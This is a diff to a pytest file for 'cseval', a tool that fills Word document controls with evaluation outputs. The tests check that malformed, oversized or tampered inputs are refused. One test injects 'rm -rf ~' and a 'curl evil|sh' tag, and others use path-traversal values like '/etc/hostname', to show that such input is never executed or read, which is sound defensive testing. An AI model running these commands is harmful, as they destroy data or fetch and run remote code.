@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import hashlib
 import json
 import re
 import struct
@@ -445,6 +446,15 @@ def test_a_picture_that_another_part_shows_too_stays_for_it(contents):
     assert members_of(filled(paper, contents))["word/media/image1.png"] == png()
 
 
+@pytest.mark.parametrize("reference", ["o:relid", "r:id", "r:pict"])
+def test_a_picture_that_an_older_drawing_shows_too_stays_for_it(contents, reference):
+    office = 'xmlns:o="urn:schemas-microsoft-com:office:office"'
+    old = f'<w:p><w:r><w:pict><v:shape><v:imagedata {office} {reference}="rId20"/></v:shape></w:pict></w:r></w:p>'
+    new = filled(with_picture(sdt(FIGURE, f"<w:p>{picture('rId20')}</w:p>") + old), contents)
+    assert members_of(new)["word/media/image1.png"] == png()
+    assert drawn(control(new, FIGURE))[-1] == "rIdCseval1"
+
+
 def test_a_picture_of_another_format_gets_a_file_of_its_own(contents):
     paper = with_picture(sdt(FIGURE, f"<w:p>{picture('rId20')}</w:p>"), name="image1.jpeg")
     new = filled(paper, contents)
@@ -731,6 +741,8 @@ def test_everything_else_in_a_paper_is_kept_to_the_byte(contents):
 
 CHANGE = 'w:id="9" w:author="A" w:date="2026-01-01T00:00:00Z"'
 BINDING = '<w:dataBinding w:xpath="/a" w:storeItemID="{1}"/>'
+FIELD = {kind: f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")}
+SEQ = f"{FIELD['begin']}<w:r><w:instrText> SEQ Table </w:instrText></w:r>{FIELD['separate']}{a_run('3')}{FIELD['end']}"
 REFUSED = {
     "a table in a line": (in_line("x", waiting_run(TABLE)), "inside a paragraph.*select the whole paragraph"),
     "a table in a cell's control": (
@@ -776,6 +788,25 @@ REFUSED = {
     "pictures": (sdt(FIGURE, f"<w:p>{picture('rId20') * 2}</w:p>"), "2 pictures in one control"),
     "comment": (sdt(TABLE, f'<w:p><w:commentRangeStart w:id="1"/>{a_run("x")}</w:p>'), "a comment inside.*move it"),
     "footnote": (in_line("x", sdt(VALUE, '<w:r><w:footnoteReference w:id="1"/></w:r>')), "a footnote inside"),
+    "whole field": (in_line("x", sdt(VALUE, f"{FIELD['begin']}{a_run('3')}{FIELD['end']}")), "a field inside.*move it"),
+    "simple field": (in_line("x", sdt(VALUE, '<w:fldSimple w:instr="PAGE"/>')), "a field inside.*move it"),
+    "number in a value": (in_line("x", sdt(VALUE, SEQ)), "a field inside"),
+    "begin of a field": (f"<w:p>{sdt(VALUE, FIELD['begin'])}{FIELD['end']}</w:p>", "a field of which one end.*Alt.F9"),
+    "end of a field": (f"<w:p>{FIELD['begin']}{sdt(VALUE, FIELD['end'])}</w:p>", "a field of which one end is inside"),
+    "range": (in_line("x", sdt(VALUE, '<w:aRangeEnd w:id="1"/>')), "a marked range of which one end is inside"),
+    "link": (in_line("x", sdt(VALUE, f'<w:hyperlink w:anchor="a">{a_run("y")}</w:hyperlink>')), "a hyperlink inside"),
+    "control": (sdt(TABLE, paragraph("x") + sdt("mine", paragraph("Legal advice."))), "another content control inside"),
+    "text box": (sdt(TABLE, text_box(paragraph("a"), paragraph("a"))), "a text box inside.*move it out of the control"),
+    "box in a figure": (sdt(FIGURE, text_box(paragraph("a"), paragraph("a"))), "a shape, a chart or a text box inside"),
+    "picture in a value": (in_line("x", sdt(VALUE, picture("rId20"))), "a picture or a shape inside"),
+    "picture in a table": (sdt(TABLE, f"<w:p>{picture('rId20')}</w:p>"), "a picture or a shape inside"),
+    "old picture": (in_line("x", sdt(VALUE, "<w:r><w:pict/></w:r>")), "a picture or a shape inside"),
+    "chart": (sdt(FIGURE, f"<w:p>{picture('rId20').replace('/2006/picture', '/2006/chart')}</w:p>"), "a chart or"),
+    "row tracked": (
+        table(f"<w:tr><w:trPr><w:del {CHANGE}/></w:trPr>{cell(sdt(VALUE, paragraph('x')))}</w:tr>"),
+        "tracked changes",
+    ),
+    "range tracked": (f"<w:p><w:customXmlInsRangeStart {CHANGE}/>{sdt(VALUE, a_run('x'))}</w:p>", "tracked changes"),
     "section": (sdt(TABLE, "<w:p><w:pPr><w:sectPr/></w:pPr></w:p>"), "a section break inside"),
 }
 
@@ -839,6 +870,43 @@ def test_a_comment_beside_a_picture_that_is_exchanged_in_place_is_kept(contents)
     inner = f'<w:p><w:commentRangeStart w:id="1"/>{picture("rId20")}<w:commentRangeEnd w:id="1"/></w:p>'
     new = filled(with_picture(sdt(FIGURE, inner)), contents)
     assert control(new, FIGURE).find(f".//{q('commentRangeStart')}") is not None
+
+
+def test_the_number_of_a_caption_is_no_loss_however_word_keeps_it(contents, outputs):
+    caption = f"<w:p>{a_run('Table ')}{SEQ}{a_run(': Old')}</w:p>"
+    assert text_of(control(filled(word_paper(sdt(TABLE, caption)), contents), TABLE)[0]).startswith("Table 3: Estim")
+    content = members_of(filled(word_paper(sdt(TABLE, caption)), contents))
+    saved = re.sub("<w:fldSimple.*?</w:fldSimple>", lambda _: SEQ, content[MAIN].decode()).replace(
+        ">Table <", ">Tab. <"
+    )
+    new = filled(word_file({**content, MAIN: saved.encode()}), rewritten(outputs, change="−7.0%"))
+    assert text_of(control(new, TABLE)[0]) == "Estimated effects, Neighbourhood Management Pilot"
+
+
+def test_a_place_that_is_current_may_hold_half_a_field(contents):
+    content = members_of(filled(word_paper(in_line("by ", waiting_run(VALUE))), contents))
+    main = (
+        content[MAIN]
+        .decode()
+        .replace("</w:sdtContent></w:sdt>", f"{FIELD['begin']}</w:sdtContent></w:sdt>{FIELD['end']}")
+    )
+    paper = word_file({**content, MAIN: main.encode()})
+    assert plan_paper(paper, contents).content is paper
+
+
+@pytest.mark.parametrize("body", ["", waiting_block(TABLE)])
+def test_a_place_in_a_comment_is_refused_and_not_passed_over(contents, body):
+    links = relationships(*LINKS, ("rId30", "comments", "comments.xml"))
+    comments = root("comments", f'<w:comment w:id="1">{in_line("x", sdt(VALUE, a_run("old")))}</w:comment>')
+    paper = word_paper(body, **{"word/_rels/document.xml.rels": links, "word/comments.xml": comments})
+    with pytest.raises(UsageError, match=r"comments, control 'cseval:pilot.*inside a comment.*Move it into the text"):
+        plan_paper(paper, contents)
+
+
+def test_macros_under_another_name_are_refused(contents):
+    types = content_types(more='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>')
+    with pytest.raises(UsageError, match="a document with macros"):
+        plan_paper(word_paper(ALL, **{"[Content_Types].xml": types, "word/x.bin": b"x"}), contents)
 
 
 def test_a_paper_without_any_place_says_how_to_add_one(contents):
@@ -933,6 +1001,63 @@ def test_outputs_that_are_gone_are_refused(outputs):
         plan_paper(word_paper(ALL), Contents(outputs))
 
 
+DEEP = b'{"a":' + b"[" * 200_000 + b"]" * 200_000 + b"}"
+LONG = b'evaluation,analysis\n"' + b"x" * 200_000 + b'",primary\n'
+
+
+def listed(folder, name, content):
+    """Change a file of the outputs and what the manifest says of it."""
+    manifest = json.loads((folder / "manifest.json").read_bytes())
+    manifest["outputs"] = [o for o in manifest["outputs"] if o["path"] != name]
+    manifest["outputs"].append({"path": name, "sha256": hashlib.sha256(content).hexdigest()})
+    spoil(folder, name, content)
+    spoil(folder, "manifest.json", json.dumps(manifest).encode())
+
+
+@pytest.mark.parametrize(
+    ("name", "content"), [("places.json", DEEP), ("effects.csv", LONG), ("checks.csv", LONG), ("places.json", b"\xff")]
+)
+def test_outputs_that_no_program_reads_are_refused(outputs, name, content):
+    listed(outputs / SLUG, name, content)
+    tag = "cseval:pilot/value/run/concerns" if name == "checks.csv" else VALUE
+    with pytest.raises(UsageError, match=rf"{name}: not what a run writes.*Run `cseval run pilot-evaluation` again"):
+        plan_paper(word_paper(in_line("x", waiting_run(tag))), Contents(outputs))
+
+
+@pytest.mark.parametrize(
+    "manifest", [DEEP, b'{"outputs": [], "x": ' + b"9" * 5000 + b"}", b'{"outputs": [], "x": "\\ud800"}']
+)
+def test_a_manifest_that_no_program_reads_is_refused(outputs, manifest):
+    if b"ud800" in manifest:
+        said = json.loads((outputs / SLUG / "manifest.json").read_bytes())
+        manifest = json.dumps({**said, "x": "\ud800"}).encode()
+    spoil(outputs / SLUG, "manifest.json", manifest)
+    with pytest.raises(UsageError, match=r"manifest\.json: not what a run writes"):
+        plan_paper(word_paper(ALL), Contents(outputs))
+
+
+def test_a_figure_with_a_name_that_no_file_can_have(outputs):
+    name = "x" * 300
+    manifest = json.loads((outputs / SLUG / "manifest.json").read_bytes())
+    content = json.loads((outputs / SLUG / "places.json").read_bytes())
+    content["figures"]["series"]["path"] = name
+    manifest["outputs"].append({"path": name, "sha256": ""})
+    spoil(outputs / SLUG, "manifest.json", json.dumps(manifest).encode())
+    listed(outputs / SLUG, "places.json", json.dumps(content).encode())
+    with pytest.raises(UsageError, match="x…: cannot be read"):
+        plan_paper(word_paper(ALL), Contents(outputs))
+
+
+def test_no_command_is_taken_from_a_manifest_or_a_tag(outputs):
+    manifest = json.loads((outputs / SLUG / "manifest.json").read_bytes())
+    manifest |= {"command": "rm -rf ~ \x1b]0;x", "outputs": []}
+    spoil(outputs / SLUG, "manifest.json", json.dumps(manifest).encode())
+    with pytest.raises(UsageError) as error:
+        plan_paper(word_paper(ALL + waiting_block("cseval:a;curl evil|sh/effects")), Contents(outputs))
+    commands = re.findall("`(.*?)`", str(error.value))
+    assert {*commands} == {"cseval run pilot-evaluation", "cseval run EVALUATION"}
+
+
 @pytest.mark.parametrize("path", ["../../secret.png", "/etc/hostname", "figures/unlisted.png"])
 def test_a_figure_outside_the_outputs_is_not_read(outputs, path):
     folder = write_run(outputs / SLUG)
@@ -940,8 +1065,6 @@ def test_a_figure_outside_the_outputs_is_not_read(outputs, path):
     content = json.loads((folder / "places.json").read_bytes())
     content["figures"]["series"]["path"] = path
     manifest = json.loads((folder / "manifest.json").read_bytes())
-    import hashlib
-
     made = json.dumps(content).encode()
     for entry in manifest["outputs"]:
         if entry["path"] == "places.json":
@@ -1044,6 +1167,40 @@ def test_a_folder_is_never_replaced(path, contents, tmp_path):
 def test_the_paper_itself_may_be_named_as_the_other_file(path, contents):
     embed_paper(path, contents, out=path)
     assert embed_paper(path, contents).stale == ()
+
+
+def saved_meanwhile(monkeypatch, path, content):
+    """Have somebody save another file under this name while a paper is read."""
+
+    def slow(*arguments, **options):
+        plan = plan_paper(*arguments, **options)
+        path.write_bytes(content)
+        return plan
+
+    monkeypatch.setattr(embed, "plan_paper", slow)
+
+
+@pytest.mark.parametrize("itself", [False, True])
+def test_what_somebody_saved_while_cseval_worked_is_not_lost(path, contents, monkeypatch, itself):
+    saved_meanwhile(monkeypatch, path, b"an hour of work")
+    with pytest.raises(UsageError, match=r"saved by someone else while cseval worked.*run again"):
+        embed_paper(path, contents, out=path if itself else None)
+    assert path.read_bytes() == b"an hour of work"
+    assert [p.name for p in path.parent.iterdir() if p.suffix != ""] == ["paper.docx"]
+
+
+def test_a_paper_that_was_moved_away_while_cseval_worked_is_not_made_again(path, contents, monkeypatch):
+    monkeypatch.setattr(embed, "plan_paper", lambda *a, **k: (plan_paper(*a, **k), path.unlink())[0])
+    with pytest.raises(UsageError, match="no such file"):
+        embed_paper(path, contents)
+    assert not path.exists()
+
+
+def test_another_file_that_appears_while_cseval_works_is_not_lost(path, contents, monkeypatch, tmp_path):
+    saved_meanwhile(monkeypatch, tmp_path / "other.docx", b"an hour of work")
+    with pytest.raises(UsageError, match="is there already"):
+        embed_paper(path, contents, out=tmp_path / "other.docx")
+    assert (tmp_path / "other.docx").read_bytes() == b"an hour of work"
 
 
 def test_an_open_paper_that_is_current_needs_no_closing(path, contents):
